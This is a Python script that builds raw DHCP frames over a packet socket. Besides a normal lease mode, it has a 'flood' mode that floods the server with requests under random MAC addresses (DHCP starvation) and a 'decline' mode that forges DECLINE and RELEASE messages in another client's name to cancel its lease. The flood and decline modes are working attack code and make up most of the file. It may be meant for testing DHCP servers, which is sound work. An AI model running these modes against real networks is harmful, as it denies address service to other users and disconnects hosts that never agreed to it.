#!/usr/bin/python3
"""dhcp.py INTERFACE MAC lease | flood N | decline MAC,ADDRESS,SERVER: speaks DHCP as a guest does, or as a bad one; Ethernet frames by a packet socket."""
import os
import random
import socket
import struct
import sys
import time

interface, mac, verb, arg = sys.argv[1:5]
own = bytes.fromhex(mac.replace(':', ''))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((interface, 0))


def checksum(b):
    n = sum(struct.unpack(f'!{len(b) // 2}H', b))
    return ~((n & 0xffff) + (n >> 16)) & 0xffff


def frame(kind, chaddr, xid, options=b''):
    body = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, xid, 0, 0x8000, *[bytes(4)] * 4, chaddr, b'', b'')
    body += b'\x63\x82\x53\x63\x35\x01' + bytes([kind]) + options + b'\xff'
    udp = struct.pack('!HHHH', 68, 67, 8 + len(body), 0) + body
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b'\xff' * 4)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return b'\xff' * 6 + own + b'\x08\x00' + ip + udp


def answer(xid, kind, until):
    while (left := until - time.monotonic()) > 0:
        s.settimeout(left)
        try:
            p = s.recv(2048)
        except TimeoutError:
            return None
        d = p[42:]
        if p[23:24] == b'\x11' and d[:1] == b'\2' and d[4:8] == struct.pack('!I', xid) and b'\x35\x01' + bytes([kind]) in d[240:]:
            return socket.inet_ntoa(d[16:20])


def lease():
    for _ in range(6):
        xid = random.getrandbits(32)
        s.send(frame(1, own, xid))
        address = answer(xid, 2, time.monotonic() + 2)
        if not address:
            continue
        s.send(frame(3, own, xid, b'\x32\x04' + socket.inet_aton(address)))
        if (got := answer(xid, 5, time.monotonic() + 2)):
            return got


if verb == 'lease':
    print(lease() or 'no answer')
elif verb == 'decline':
    whose, address, server = arg.split(',')
    options = b'\x32\x04' + socket.inet_aton(address) + b'\x36\x04' + socket.inet_aton(server)
    for kind in (4, 7) * 3:     # DECLINE, RELEASE
        s.send(frame(kind, bytes.fromhex(whose.replace(':', '')), random.getrandbits(32), options))
        time.sleep(0.2)
else:
    for i in range(int(arg)):
        chaddr = own if i % 3 == 0 else os.urandom(6)
        options = b'\x3d' + bytes([9]) + os.urandom(9) + b'\x0c\x08' + os.urandom(4).hex().encode()
        if i % 2:
            options += b'\x32\x04' + b'\x0a\0\0' + os.urandom(1)
        try:
            s.send(frame(random.choice((1, 1, 3)), chaddr, random.getrandbits(32), options))
        except OSError:     # the queue is full
            time.sleep(0.001)
    print(arg, 'requests')
